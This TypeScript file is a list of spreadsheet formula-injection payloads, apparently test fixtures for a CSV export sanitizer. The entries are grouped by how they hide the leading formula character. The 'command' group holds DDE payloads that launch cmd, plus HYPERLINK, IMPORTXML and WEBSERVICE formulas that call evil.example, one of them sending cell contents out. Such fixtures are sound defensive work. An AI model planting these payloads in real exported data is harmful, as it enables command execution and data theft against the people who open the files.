/** Texts that a spreadsheet may run as a formula, by what they hide it behind. */
export const formulaPayloads = {
  sign: ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=", "=-+@1", "-", "+cmd", "=A1"],
  control: ["\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\tx", "\rx", "\n\n=1", "\u000b=1", "\u0001=1", "a\n=1+1"],
  wide: ["＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "﹢1", "﹣1", "﹫SUM(A1)"],
  blank: [
    " =1+1",
    "  @SUM(A1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060+1",
    "\u3000=1",
    "\u2003-1+1",
    "\u00ad=1",
    "\u202e=1",
  ],
  quote: ['"=1+1', "'=1+1", '"=1+1"', '""=1+1', '","=1+1', "','=1+1", '";"=1+1'],
  command: [
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://evil.example/?x="&A1,"x")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    "-2+3+cmd|'/C calc'!D2",
  ],
  split: ["a;=1+1", "a,=1+1", "a\t=1+1", "a; =1+1", "a;\u00a0@x", ";=1+1", ",+1", ";;@x"],
} as const satisfies Readonly<Record<string, readonly string[]>>;

export const everyFormulaPayload: readonly string[] = Object.values(formulaPayloads).flat();
